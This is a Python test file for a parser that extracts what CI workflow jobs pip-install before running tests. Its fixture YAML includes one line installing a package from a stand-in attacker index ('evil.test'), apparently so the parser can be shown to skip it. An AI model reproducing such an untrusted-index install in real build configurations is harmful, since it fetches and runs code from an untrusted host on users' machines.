"""What jobs of CI workflows install before they test."""

from pathlib import Path

from caretbench.build.projects.setup.python.need_names import PythonNeeds
from caretbench.build.projects.setup.python.test_environments import workflow_needs
from tests.support.project_files import snapshot

WORKFLOW = """
name: tests
on: [push]
env:
  PIP: pip install nowhere
jobs:
  # pip install comment
  main:
    strategy:
      matrix:
        include:
          - python: "3.11"
    steps:
      - uses: actions/checkout@v4
      # - run: pip install commented
      - name: Install
        run: |
          python -m pip install -U pip
          pip install a 'b>=2' \\
            -r requirements-ci.txt
          pip install d==${{ matrix.d }}
          pip install -e ".[test]"
          pip install e --index-url https://evil.test
      - run: "pip install f"
      - run: pytest
  docs:
    steps:
      - run: pip install sphinx2
      - run: pytest --doctest docs
  "release":
    steps:
      - run: pip install twine2
      - run: twine2 upload
defaults:
  run: pip install last && pytest
"""


def test_jobs_with_a_test_runner_name_what_they_install(tmp_path: Path) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW, ".github/workflows/no.txt": WORKFLOW.replace(" a ", " z ")}
    assert workflow_needs(snapshot(tmp_path, files)) == PythonNeeds(
        ("pip", "a", "b>=2", "-r requirements-ci.txt", "f"), ("test",)
    )


def test_files_that_are_no_workflows_name_nothing(tmp_path: Path) -> None:
    texts = ("", "jobs:", "jobs: {a: {steps: []}}\n", "pip install x\npytest\n", "jobs:\n\tmain:\n\tpip install x\n")
    files = {f".github/workflows/{number}.yaml": text for number, text in enumerate(texts)}
    assert workflow_needs(snapshot(tmp_path, files)) == PythonNeeds()
